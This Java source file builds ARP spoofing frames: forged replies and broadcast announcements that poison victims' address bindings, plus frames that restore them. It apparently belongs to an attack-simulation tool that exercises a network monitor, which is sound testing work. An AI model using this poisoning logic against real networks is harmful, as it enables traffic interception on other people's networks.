package cofferdam.attacks.network;

import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.MacAddress;
import cofferdam.monitor.packet.ArpPacket;

import java.util.List;

/** What {@link ArpSpoofing} says, and what is true, once the victims' addresses are known. */
final class ArpClaims {

    private final Foothold foothold;
    private final Claim claim;
    private final StationForge forge;

    /** What is false about the binding that is claimed. */
    enum Claim {
        /** The protocol address. */
        IP,
        /** The hardware address. */
        MAC,
        /** Both: the addresses are not the attacker's, and not each other's. */
        BOTH
    }

    /** A protocol address and where it is said to be. */
    private record Binding(Ipv4Address protocol, MacAddress hardware) {}

    ArpClaims(Foothold foothold, Claim claim, StationForge forge) {
        this.foothold = foothold;
        this.claim = claim;
        this.forge = forge;
    }

    /**
     * The lie: to the second victim alone, and to everybody.
     *
     * @param whose where the first victim is
     * @param whom where the second victim is
     */
    List<byte[]> lies(MacAddress whose, MacAddress whom) {
        forge.spare(whose);
        forge.spare(whom);
        forge.spare(foothold.hardware());
        return told(
                switch (claim) {
                    case IP -> new Binding(first(), foothold.hardware());
                    case MAC -> new Binding(foothold.protocol(), whose);
                    case BOTH -> new Binding(first(), forge.station());
                },
                whom);
    }

    /** What puts right what the lie has made. */
    List<byte[]> truth(MacAddress whose, MacAddress whom) {
        return told(
                switch (claim) {
                    case IP, BOTH -> new Binding(first(), whose);
                    case MAC -> new Binding(foothold.protocol(), foothold.hardware());
                },
                whom);
    }

    private List<byte[]> told(Binding binding, MacAddress whom) {
        MacAddress own = foothold.hardware();
        Ipv4Address second = foothold.victims().getLast();
        byte[] reply = ArpPacket.reply(binding.hardware(), binding.protocol(), whom, second)
                .toFrame(whom, own);
        byte[] announcement = ArpPacket.request(
                        binding.hardware(), binding.protocol(), binding.protocol())
                .toFrame(MacAddress.BROADCAST, own);
        return List.of(reply, announcement);
    }

    private Ipv4Address first() {
        return foothold.victims().getFirst();
    }
}
